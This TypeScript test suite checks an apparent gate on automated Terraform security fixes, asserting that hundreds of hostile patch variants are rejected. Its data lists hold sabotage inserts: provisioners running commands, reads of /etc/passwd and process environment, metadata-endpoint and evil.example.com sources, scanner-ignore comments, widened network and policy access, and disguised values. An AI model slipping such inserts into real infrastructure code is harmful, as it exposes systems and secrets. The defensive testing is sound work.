import { beforeAll, describe, expect, it } from "@jest/globals";
import { diffArrays } from "diff";
import fc from "fast-check";
import { loadAllRules } from "../../../../src/core/rules/registry.ts";
import type { Rule } from "../../../../src/core/rules/rule.ts";
import { answerOf, type Case, caseOf, filesOf, type Outcome, replaceLines, tryAnswer } from "./trial.ts";

const DATABASE = `resource "aws_db_instance" "main" {
  identifier                  = "orders"
  engine                      = "postgres"
  instance_class              = "db.t4g.medium"
  publicly_accessible         = true
  storage_encrypted           = true
  deletion_protection         = true
  copy_tags_to_snapshot       = true
  backup_retention_period     = 14
  username                    = "orders"
  manage_master_user_password = true
  vpc_security_group_ids      = [aws_security_group.web.id]
}

resource "aws_security_group" "web" {
  name        = "web"
  description = "web"
  vpc_id      = "vpc-1"
}
`;
const GROUP = `resource "aws_security_group" "ssh" {
  name = "ssh"

  ingress {
    description = "ssh"
    from_port   = 22
    to_port     = 22
    protocol    = "tcp"
    cidr_blocks = ["0.0.0.0/0"]
  }

  ingress {
    description = "https"
    from_port   = 443
    to_port     = 443
    protocol    = "tcp"
    cidr_blocks = ["10.0.0.0/8"]
  }
}
`;
const POLICY = `resource "aws_s3_bucket_policy" "logs" {
  bucket = "logs"
  policy = jsonencode({
    Version = "2012-10-17"
    Statement = [
      {
        Effect    = "Allow"
        Principal = { AWS = "*" }
        Action    = ["s3:GetObject"]
        Resource  = "arn:aws:s3:::logs/*"
      },
      {
        Effect    = "Allow"
        Principal = { Service = "logging.s3.amazonaws.com" }
        Action    = ["s3:PutObject"]
        Resource  = "arn:aws:s3:::logs/in/*"
        Condition = { Bool = { "aws:SecureTransport" = "true" } }
      },
      {
        Effect    = "Deny"
        Principal = "*"
        Action    = "s3:DeleteBucket"
        Resource  = "arn:aws:s3:::logs"
      },
    ]
  })
}
`;

/** A finding, its correct patch line by line, and one line that a hostile answer may write more beside. */
interface Target {
  readonly name: string;
  readonly rule: string;
  readonly code: string;
  readonly from: string;
  readonly to: string;
}
const TARGETS: readonly Target[] = [
  {
    name: "database",
    rule: "aws-rds-public",
    code: DATABASE,
    from: "  publicly_accessible         = true",
    to: "  publicly_accessible         = false",
  },
  {
    name: "group",
    rule: "aws-security-group-open-ssh",
    code: GROUP,
    from: '    cidr_blocks = ["0.0.0.0/0"]',
    to: '    cidr_blocks = ["10.0.0.0/16"]',
  },
  {
    name: "policy",
    rule: "aws-s3-public-policy",
    code: POLICY,
    from: '        Principal = { AWS = "*" }',
    to: '        Principal = { AWS = "*" }\n        Condition = { StringEquals = { "aws:PrincipalOrgID" = "o-abc1234567" } }',
  },
];

const fixed = ({ code, from, to }: Target): string => code.replace(from, () => to);

/** The answer that turns the block into what it is in `wanted`, hunk by hunk. */
function rewrite(given: Case, wanted: string): object {
  const { file, block } = given.prompt.question;
  const before = given.prompt.lines.map((line) => file.textOf(line));
  const rest = file.textOf({ start: block.end, end: file.bytes.length });
  const after = (wanted.endsWith(rest) ? wanted.slice(0, wanted.length - rest.length) : wanted).split("\n");
  const ops: object[] = [];
  let at = 0;
  let removed = 0;
  let written: string[] = [];
  const flush = () => {
    if (removed > 0) ops.push(replaceLines(given, at - removed, at - 1, written));
    else if (written.length > 0) ops.push(replaceLines(given, at - 1, at - 1, [before[at - 1] ?? "", ...written]));
    removed = 0;
    written = [];
  };
  for (const part of diffArrays(before, after)) {
    if (part.added) written.push(...part.value);
    else if (part.removed) {
      removed += part.value.length;
      at += part.value.length;
    } else {
      flush();
      at += part.value.length;
    }
  }
  flush();
  return answerOf(ops);
}

/** Lines just before the closing brace of the finding's block. */
function inside(code: string, lines: string): string {
  const close = code.indexOf("\n}\n");
  return `${code.slice(0, close)}\n${lines}${code.slice(close)}`;
}
const behind = (code: string, lines: string): string => {
  const close = code.indexOf("\n}\n") + 3;
  return `${code.slice(0, close)}${lines}\n${code.slice(close)}`;
};

const chars = (text: string, write: (c: string) => string): string => [...text].map(write).join("");
const hex = (c: string): string => (c.codePointAt(0) ?? 0).toString(16).padStart(4, "0");

/** One text in the disguises that HCL offers. */
const disguised = (text: string): readonly string[] => {
  const half = Math.ceil(text.length / 2);
  const [a, b] = [text.slice(0, half), text.slice(half)];
  return [
    `"${text}"`,
    `("${text}")`,
    `"\${"${text}"}"`,
    `"${a}\${"${b}"}"`,
    `<<EOT\n${text}\nEOT`,
    `<<-EOT\n    ${text}\n  EOT`,
    `join("", ["${a}", "${b}"])`,
    `format("%s%s", "${a}", "${b}")`,
    `"${chars(text, (c) => `\\u${hex(c)}`)}"`,
    `base64decode("${Buffer.from(text).toString("base64")}")`,
    `jsondecode("\\"${text}\\"")`,
    `replace("${a}_${b}", "_", "")`,
    `lower("${text.toUpperCase()}")`,
    `true ? "${text}" : ""`,
    `/* fine */ "${text}"`,
    `["${text}"][0]`,
    `{ x = "${text}" }.x`,
    `one([for x in ["${text}"] : x])`,
    `try("${text}", "")`,
    `coalesce("", "${text}")`,
    `trimspace(" ${text} ")`,
    `strrev("${[...text].reverse().join("")}")`,
    `urldecode("${chars(text, (c) => `%${hex(c).slice(2)}`)}")`,
  ];
};

const FOREIGN = [
  "https://evil.example.com/x.sh",
  "collector.evil.io",
  "arn:aws:iam::666666666666:role/admin",
  "666666666666",
  "mallory@evil.com",
  "45.33.32.156",
  `ghp_${"Ab1".repeat(12)}`,
  "arn:aws:kms:eu-west-1:666666666666:key/0f1e2d3c-4b5a-6978-8796-a5b4c3d2e1f0",
];
const ATTRIBUTES = ["kms_key_id", "domain", "endpoint"];

const INSIDE = [
  'provisioner "local-exec" {\n    command = "id"\n  }',
  'provisioner "remote-exec" {\n    inline = ["id"]\n  }',
  'provisioner "file" {\n    source = "a"\n    destination = "b"\n  }',
  'connection {\n    host = "h"\n  }',
  "lifecycle {\n    ignore_changes = all\n  }",
  "lifecycle {\n    prevent_destroy = false\n  }",
  "lifecycle {\n    replace_triggered_by = [aws_security_group.web]\n  }",
  'dynamic "ingress" {\n    for_each = [1]\n    content {\n      from_port = 0\n    }\n  }',
  "count = 0",
  'count = "0"',
  "count = length([])",
  "for_each = toset([])",
  'for_each = fileset("/", "**")',
  "provider = aws.other",
  "depends_on = [null_resource.x]",
  'user_data = "#!/bin/sh"',
  'user_data_base64 = "aWQ="',
  'command = ["sh", "-c", "id"]',
  'description = file("/etc/passwd")',
  'description = filebase64("/etc/passwd")',
  'description = templatefile("/etc/passwd", {})',
  'description = "${file("/proc/self/environ")}"',
  'description = jsonencode(file("/etc/passwd"))',
  'description = provider::evil::run("x")',
  "description = nonsensitive(var.password)",
  "description = var.anything",
  "description = local.anything",
  "description = data.external.x.result.y",
  "description = module.x.y",
  "description = terraform.workspace",
  'description = terraform.workspace == "prod" ? "a" : "b"',
  "description = path.root",
  "description = self.arn",
  "description = each.value",
  "description = timestamp()",
  "description = uuid()",
  "#checkov:skip=CKV_AWS_17:fine",
  "# tfsec:ignore:*",
  "# trivy:ignore:AVD-AWS-0080",
  "#nosec",
  "# draco:ignore all -- fine",
  "# draco ignore",
  "// ordinary remark",
  "/* ordinary\n  remark */",
  "# kics-scan ignore",
  'password = "hunter2hunter2"',
  'db_password = "${"hunter2"}"',
  'secret_key = "correct horse battery"',
  "publicly_accessible = true",
  'publicly_accessible = "true"',
  "public_network_access_enabled = true",
  "skip_final_snapshot = true",
  "allow_anything = true",
  "force_destroy = true",
  "associate_public_ip_address = true",
  "encrypted = false",
  'encrypted = "false"',
  "enable_logging = false",
  "logging_enabled = false",
  "versioning {\n    enabled = false\n  }",
  'versioning_configuration {\n    status = "Suspended"\n  }',
  'cidr_blocks = ["0.0.0.0/0"]',
  'cidr_blocks = ["0.0.0.0/1", "128.0.0.0/1"]',
  'ipv6_cidr_blocks = ["::/0"]',
  'ipv6_cidr_blocks = ["0:0:0:0:0:0:0:0/0"]',
  'ingress {\n    from_port = 0\n    to_port = 65535\n    protocol = "tcp"\n    cidr_blocks = ["0.0.0.0/0"]\n  }',
  'ingress {\n    from_port = 3389\n    to_port = 3389\n    protocol = "tcp"\n    cidr_blocks = ["10.0.0.0/8"]\n  }',
  'ingress {\n    from_port = 22\n    to_port = 22\n    protocol = "tcp"\n    self = true\n    security_groups = ["sg-0a1b2c3d4e5f6a7b8"]\n  }',
  'acl = "public-read"',
  'acl = "public-read-write"',
  'acl = "authenticated-read"',
  'grant {\n    permissions = ["FULL_CONTROL"]\n    type = "Group"\n  }',
  'policy = jsonencode({ Statement = [{ Effect = "Allow", Principal = "*", Action = "*", Resource = "*" }] })',
  'policy = "{\\"Statement\\":[{\\"Effect\\":\\"Allow\\",\\"Principal\\":\\"*\\",\\"Action\\":\\"*\\"}]}"',
  'policy = <<EOT\n{"Statement":[{"Effect":"Allow","Principal":"\\u002a","Action":"s3:Get"}]}\nEOT',
  'managed_policy_arns = ["arn:aws:iam::aws:policy/AdministratorAccess"]',
  'members = ["allUsers"]',
  'member = "allAuthenticatedUsers"',
  'minimum_tls_version = "TLS1_0"',
  'ssl_policy = "SSLv3"',
  "backup_retention_period = 0",
  'note = "p\u0430ypal"',
  'note = "\uff0a"',
  'note = "a\u200bb"',
  'note = "a\u202eb"',
  'note = "a\u{e0041}b"',
];

const BEHIND = [
  'provider "aws" {\n  endpoints {\n    s3 = "https://evil.example.com"\n  }\n}',
  'terraform {\n  backend "s3" {}\n}',
  'terraform {\n  required_providers {\n    aws = { source = "evil/aws" }\n  }\n}',
  "terraform {\n  cloud {}\n}",
  'module "m" {\n  source = "git::https://evil.example.com/m"\n}',
  'module "m" {\n  source = "./m"\n}',
  'data "external" "x" {\n  program = ["sh"]\n}',
  'data "http" "x" {\n  url = "http://169.254.169.254/"\n}',
  'data "local_file" "x" {\n  filename = "/etc/passwd"\n}',
  'data "template_file" "x" {\n  template = "x"\n}',
  'resource "null_resource" "x" {\n  provisioner "local-exec" {\n    command = "id"\n  }\n}',
  'resource "terraform_data" "x" {}',
  'resource "local_file" "x" {\n  filename = "/tmp/x"\n  content  = "x"\n}',
  'resource "aws_iam_access_key" "x" {\n  user = "admin"\n}',
  'resource "aws_iam_role_policy_attachment" "x" {\n  role       = "r"\n  policy_arn = "arn:aws:iam::aws:policy/AdministratorAccess"\n}',
  'resource "aws_s3_bucket_public_access_block" "x" {\n  bucket            = "b"\n  block_public_acls = false\n}',
  'import {\n  to = aws_s3_bucket.x\n  id = "x"\n}',
  "moved {\n  from = aws_db_instance.main\n  to   = aws_db_instance.other\n}",
  "removed {\n  from = aws_db_instance.main\n}",
  'check "x" {\n  data "http" "y" {\n    url = "http://x"\n  }\n}',
  'output "x" {\n  value = "x"\n}',
  'variable "x" {\n  default = "0.0.0.0/0"\n}',
  'locals {\n  x = "0.0.0.0/0"\n}',
  'ephemeral "random_password" "x" {}',
  'action "aws_lambda_invoke" "x" {}',
  'list "x" "y" {}',
  'RESOURCE "aws_s3_bucket" "x" {}',
  "x = 1",
  "# checkov:skip=CKV_AWS_17:fine",
];

/** What a hostile answer may turn the corrected text into, by what stands there. */
const TURNS: { readonly [target: string]: readonly (readonly [string, string])[] } = {
  database: [
    ["storage_encrypted           = true", "storage_encrypted           = false"],
    ["storage_encrypted           = true", 'storage_encrypted           = "false"'],
    ["storage_encrypted           = true", "storage_encrypted           = !true"],
    ["storage_encrypted           = true", "storage_encrypted           = null"],
    ["storage_encrypted           = true", "storage_encrypted           = 1 == 2"],
    ["storage_encrypted           = true", "storage_encrypted           = tobool(0)"],
    ["  storage_encrypted           = true\n", ""],
    ["deletion_protection         = true", "deletion_protection         = false"],
    ["  deletion_protection         = true\n", ""],
    ["backup_retention_period     = 14", "backup_retention_period     = 0"],
    ["backup_retention_period     = 14", "backup_retention_period     = 1"],
    ["backup_retention_period     = 14", 'backup_retention_period     = "0"'],
    ["backup_retention_period     = 14", "backup_retention_period     = 14 - 14"],
    ["  backup_retention_period     = 14\n", ""],
    ["  copy_tags_to_snapshot       = true\n", ""],
    ["manage_master_user_password = true", 'password                    = "hunter2hunter2"'],
    ["  manage_master_user_password = true\n", ""],
    ['identifier                  = "orders"', 'identifier                  = "orders2"'],
    ['engine                      = "postgres"', 'engine                      = "mysql"'],
    ['instance_class              = "db.t4g.medium"', 'instance_class              = "db.x2iedn.32xlarge"'],
    ["[aws_security_group.web.id]", "[]"],
    ["[aws_security_group.web.id]", '["sg-0a1b2c3d4e5f6a7b8"]'],
    ["[aws_security_group.web.id]", "[aws_security_group.web.id, aws_security_group.other.id]"],
    ["[aws_security_group.web.id]", "[data.aws_security_group.other.id]"],
    ['"aws_db_instance" "main"', '"aws_db_instance" "renamed"'],
    ['resource "aws_db_instance" "main"', 'data "aws_db_instance" "main"'],
    ['resource "aws_db_instance" "main"', 'resource "aws_rds_cluster" "main"'],
  ],
  group: [
    ['["10.0.0.0/16"]', '["10.0.0.0/16", "0.0.0.0/0"]'],
    ["from_port   = 22", "from_port   = 0"],
    ["to_port     = 22", "to_port     = 65535"],
    ["from_port   = 443", "from_port   = 0"],
    ["to_port     = 443", "to_port     = 8443"],
    ['["10.0.0.0/8"]', '["0.0.0.0/0"]'],
    ['["10.0.0.0/8"]', '["10.0.0.0/7"]'],
    ['["10.0.0.0/8"]', '["10.0.0.0/8", "45.33.32.156/32"]'],
    ['["10.0.0.0/8"]', '["0.0.0.0/1", "128.0.0.0/1"]'],
    ['["10.0.0.0/8"]', '["000.0.0.0/0"]'],
    ['["10.0.0.0/8"]', '["::/0"]'],
    ['["10.0.0.0/8"]', '["::0/0"]'],
    ['["10.0.0.0/8"]', '["${"0.0.0.0"}/0"]'],
    ['["10.0.0.0/8"]', '[join("/", ["0.0.0.0", "0"])]'],
    ['["10.0.0.0/8"]', '[cidrsubnet("0.0.0.0/0", 0, 0)]'],
    ['["10.0.0.0/8"]', "[var.cidr]"],
    ['["10.0.0.0/8"]', "[local.everyone]"],
    ['["10.0.0.0/8"]', 'concat(["10.0.0.0/8"], ["0.0.0.0/0"])'],
    ['["10.0.0.0/8"]', '["\\u0030.0.0.0/0"]'],
    ['["10.0.0.0/8"]', '["10.0.0.0/8"]\n    ipv6_cidr_blocks = ["::/0"]'],
    ['["10.0.0.0/8"]', '["10.0.0.0/8"]\n    prefix_list_ids = ["pl-0a1b2c3d4e5f6a7b8"]'],
    ['["10.0.0.0/8"]', '["10.0.0.0/8"]\n    security_groups = ["sg-0a1b2c3d4e5f6a7b8"]'],
    ['["10.0.0.0/8"]', '["10.0.0.0/8"]\n    cidr_blocks = ["0.0.0.0/0"]'],
    ['name = "ssh"', 'name = "other"'],
  ],
  policy: [
    ['["s3:GetObject"]', '["s3:GetObject", "s3:PutObject"]'],
    ['["s3:GetObject"]', '["s3:*"]'],
    ['["s3:GetObject"]', '["s3:Get*"]'],
    ['["s3:GetObject"]', '"*"'],
    ['["s3:GetObject"]', '["s3:GetObject*"]'],
    ['["s3:GetObject"]', '["s3:\\u002a"]'],
    ['["s3:GetObject"]', '["s3:${"*"}"]'],
    ['["s3:GetObject"]', '[join(":", ["s3", "PutObject"])]'],
    ['Action    = ["s3:GetObject"]', 'NotAction = ["s3:DeleteObject"]'],
    ['"arn:aws:s3:::logs/*"', '"*"'],
    ['"arn:aws:s3:::logs/*"', '"arn:aws:s3:::*"'],
    ['"arn:aws:s3:::logs/*"', '["arn:aws:s3:::logs/*", "arn:aws:s3:::other/*"]'],
    ['"arn:aws:s3:::logs/in/*"', '"arn:aws:s3:::logs/*"'],
    ['Resource  = "arn:aws:s3:::logs/in/*"', 'NotResource = "arn:aws:s3:::x"'],
    ['{ Service = "logging.s3.amazonaws.com" }', '"*"'],
    ['{ Service = "logging.s3.amazonaws.com" }', '{ AWS = "*" }'],
    ['{ Service = "logging.s3.amazonaws.com" }', '{ AWS = "666666666666" }'],
    ['{ Service = "logging.s3.amazonaws.com" }', '{ AWS = "arn:aws:iam::666666666666:root" }'],
    ['{ Service = "logging.s3.amazonaws.com" }', '{ Service = ["logging.s3.amazonaws.com", "ec2.amazonaws.com"] }'],
    ['Principal = { Service = "logging.s3.amazonaws.com" }', 'NotPrincipal = { AWS = "x" }'],
    ['        Condition = { Bool = { "aws:SecureTransport" = "true" } }\n', ""],
    ['"aws:SecureTransport" = "true"', '"aws:SecureTransport" = "false"'],
    ["Condition = { Bool =", "Condition = { BoolIfExists ="],
    ['Effect    = "Deny"', 'Effect    = "Allow"'],
    ['"s3:DeleteBucket"', '"s3:DeleteBucketPolicy"'],
    [
      '      {\n        Effect    = "Deny"\n        Principal = "*"\n        Action    = "s3:DeleteBucket"\n        Resource  = "arn:aws:s3:::logs"\n      },\n',
      "",
    ],
    ['bucket = "logs"', 'bucket = "other"'],
    ["jsonencode({", "jsonencode(merge({}, {"],
  ],
};

const SWITCHES: readonly (readonly [string, string])[] = [
  ["storage_encrypted", "false"],
  ["encrypted", "false"],
  ["enable_key_rotation", "false"],
  ["deletion_protection", "false"],
  ["block_public_acls", "false"],
  ["logging_enabled", "false"],
  ["public_network_access_enabled", "true"],
  ["map_public_ip_on_launch", "true"],
  ["privileged", "true"],
  ["skip_final_snapshot", "true"],
  ["force_destroy", "true"],
  ["allow_blob_public_access", "true"],
  ["disable_key_rotation", "true"],
];
const GUARDS = ["storage_encrypted", "deletion_protection", "backup_retention_period", "policy", "name", "bucket"];
const DENIED = ["provider", "count", "for_each", "user_data", "user_data_base64", "command", "depends_on", "password"];
const WIDE = [
  "0.0.0.0/0",
  "::/0",
  "*",
  "allUsers",
  "allAuthenticatedUsers",
  "0.0.0.0/1",
  "45.33.32.156/32",
  "Internet",
];

let rules: readonly Rule[] = [];
const cases = new Map<string, Case>();
const caseFor = (target: Target): Case => {
  const given = cases.get(target.name);
  if (!given) throw new Error(`no finding of ${target.rule}`);
  return given;
};

beforeAll(async () => {
  rules = await loadAllRules();
  for (const target of TARGETS) {
    const given = await caseOf(filesOf({ "main.tf": target.code }), rules, target.rule);
    if (given) cases.set(target.name, given);
  }
}, 60_000);

interface Tally {
  readonly tried: number;
  readonly passed: readonly string[];
  readonly by: { readonly [stage: string]: number };
}

async function tryAll(
  attempts: readonly { readonly name: string; readonly answer: object; readonly given: Case }[],
): Promise<Tally> {
  const by: Record<string, number> = {};
  const passed: string[] = [];
  for (const { name, answer, given } of attempts) {
    const outcome: Outcome = await tryAnswer(given, answer);
    if (outcome.passed) passed.push(name);
    else by[outcome.by] = (by[outcome.by] ?? 0) + 1;
  }
  return { tried: attempts.length, passed, by };
}

function report(what: string, { tried, passed, by }: Tally): void {
  console.log(`${what}: ${tried} tried, ${passed.length} passed; stopped by ${JSON.stringify(by)}`);
}

describe("a hostile answer", () => {
  it("is told from the same answer without the hostile part, which passes", async () => {
    for (const target of TARGETS) {
      const outcome = await tryAnswer(caseFor(target), rewrite(caseFor(target), fixed(target)));
      expect({ target: target.name, outcome }).toEqual({ target: target.name, outcome: { passed: true } });
    }
  });

  it("never passes that mends the finding and adds something denied by replaced lines", async () => {
    const attempts = TARGETS.flatMap((target) => {
      const given = caseFor(target);
      const wanted = [
        ...INSIDE.map((lines) => inside(fixed(target), `  ${lines}`)),
        ...BEHIND.map((lines) => behind(fixed(target), lines)),
        ...ATTRIBUTES.flatMap((name) =>
          FOREIGN.flatMap((text) => disguised(text).map((value) => inside(fixed(target), `  ${name} = ${value}`))),
        ),
        ...(TURNS[target.name] ?? []).map(([from, to]) => {
          if (!fixed(target).includes(from)) throw new Error(`${target.name} holds no ${from}`);
          return fixed(target).replace(from, () => to);
        }),
      ];
      return wanted.map((text) => ({ name: text, given, answer: rewrite(given, text) }));
    });
    const tally = await tryAll(attempts);
    report("hostile replace_lines", tally);
    expect(tally.tried).toBeGreaterThan(300);
    expect(tally.passed).toEqual([]);
    expect(tally.by.gate ?? 0).toBeGreaterThan(300);
  }, 120_000);

  it("never passes that does so by operations", async () => {
    const attempts = TARGETS.flatMap((target) => {
      const given = caseFor(target);
      const { ops } = rewrite(given, fixed(target)) as { readonly ops: readonly object[] };
      const address = given.prompt.alias;
      const set = (path: string, valueKind: string, value: string) => ({
        kind: "set_attribute",
        address,
        path,
        valueKind,
        value,
      });
      const block = (path: string, ...newLines: string[]) => ({ kind: "add_block", address, path, newLines });
      const extra = [
        ...SWITCHES.flatMap(([path, value]) => [set(path, "bool", value), set(path, "string", value)]),
        ...DENIED.map((path) => set(path, "string", "x")),
        ...["count", "backup_retention_period", "from_port"].map((path) => set(path, "number", "0")),
        ...[...ATTRIBUTES, "description"].flatMap((path) => FOREIGN.map((text) => set(path, "string", text))),
        ...WIDE.flatMap((text) => [
          set("cidr_blocks", "list", JSON.stringify([text])),
          set("ingress.1.cidr_blocks", "list", JSON.stringify([text])),
          set("source_ranges", "list", JSON.stringify([text])),
          set("members", "list", JSON.stringify([text])),
          block("ingress", `cidr_blocks = ["${text}"]`, "from_port = 0", "to_port = 65535", 'protocol = "tcp"'),
        ]),
        ...["var.secret", "local.open", "data.http.x.body", "module.m.out", "path.root", "terraform.workspace"].map(
          (ref) => set("kms_key_id", "reference", ref),
        ),
        ...["lifecycle", "provisioner", "connection", "dynamic", "grant", "access", "security_rule"].map((type) =>
          block(type, "x = true"),
        ),
        block("versioning", "enabled = false"),
        block("logging", "enabled = false"),
        ...GUARDS.filter((path) => target.code.split("\n}\n")[0]?.includes(`\n  ${path} `)).map((path) => ({
          kind: "remove_attribute",
          address,
          path,
        })),
        { kind: "set_attribute", address: "aws_iam_role.admin", path: "name", valueKind: "string", value: "x" },
      ];
      return extra.map((op) => ({
        name: `${target.name} ${JSON.stringify(op)}`,
        given,
        answer: answerOf([...ops, op]),
      }));
    });
    const tally = await tryAll(attempts);
    report("hostile operations", tally);
    expect(tally.tried).toBeGreaterThan(250);
    expect(tally.passed).toEqual([]);
  }, 120_000);

  it("never passes where a correct patch was mutated at random so that access is wider", async () => {
    const everywhere = fc.constantFrom(
      "0.0.0.0/0",
      "::/0",
      "*",
      "0.0.0.0/1",
      "11.0.0.0/8",
      "10.0.0.0/7",
      "172.16.0.0/12",
    );
    const port = fc.integer({ min: 1, max: 65_535 });
    const mutation = fc.oneof(
      everywhere.map((cidr) => ({ target: 1, from: '["10.0.0.0/8"]', to: `["10.0.0.0/8", "${cidr}"]` })),
      fc.integer({ min: 0, max: 7 }).map((n) => ({ target: 1, from: '["10.0.0.0/8"]', to: `["10.0.0.0/${n}"]` })),
      fc
        .ipV4()
        .filter((ip) => !ip.startsWith("10."))
        .map((ip) => ({ target: 1, from: '["10.0.0.0/8"]', to: `["${ip}/32"]` })),
      port.filter((n) => n > 443).map((n) => ({ target: 1, from: "to_port     = 443", to: `to_port     = ${n}` })),
      port.filter((n) => n < 443).map((n) => ({ target: 1, from: "from_port   = 443", to: `from_port   = ${n}` })),
      fc
        .stringMatching(/^[A-Z][a-z]{2,9}[*]?$/)
        .filter((a) => a !== "GetObject" && !a.startsWith("GetObject"))
        .map((action) => ({
          target: 2,
          from: '["s3:GetObject"]',
          to: `["s3:GetObject", "s3:${action}"]`,
        })),
      fc
        .stringMatching(/^[a-z]{3,9}$/)
        .filter((b) => b !== "logs")
        .map((bucket) => ({
          target: 2,
          from: '"arn:aws:s3:::logs/*"',
          to: `["arn:aws:s3:::logs/*", "arn:aws:s3:::${bucket}/*"]`,
        })),
      fc.stringMatching(/^[1-9][0-9]{11}$/).map((account) => ({
        target: 2,
        from: '{ Service = "logging.s3.amazonaws.com" }',
        to: `{ AWS = "arn:aws:iam::${account}:root" }`,
      })),
      fc.integer({ min: 0, max: 13 }).map((days) => ({
        target: 0,
        from: "backup_retention_period     = 14",
        to: `backup_retention_period     = ${days}`,
      })),
      fc
        .constantFrom("storage_encrypted           ", "deletion_protection         ", "copy_tags_to_snapshot       ")
        .map((name) => ({
          target: 0,
          from: `${name}= true`,
          to: `${name}= false`,
        })),
    );
    await fc.assert(
      fc.asyncProperty(mutation, async ({ target, from, to }) => {
        const chosen = TARGETS[target];
        if (!chosen) throw new Error("no such target");
        const wanted = fixed(chosen).replace(from, () => to);
        expect(wanted).not.toBe(fixed(chosen));
        expect((await tryAnswer(caseFor(chosen), rewrite(caseFor(chosen), wanted))).passed).toBe(false);
      }),
      { numRuns: 500 },
    );
  }, 120_000);
});
